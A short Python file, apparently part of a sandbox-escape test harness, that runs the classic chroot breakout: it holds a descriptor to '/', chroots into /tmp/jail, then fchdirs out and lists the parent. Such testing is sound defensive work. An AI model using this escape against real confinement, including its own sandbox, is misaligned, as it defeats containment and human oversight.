"""The classic: chroot into a folder while holding a descriptor outside of it, then climb."""
import os

from attack import try_each


def escape():
    os.mkdir("/tmp/jail")
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    return os.listdir("..")


try_each([("chroot", escape)])
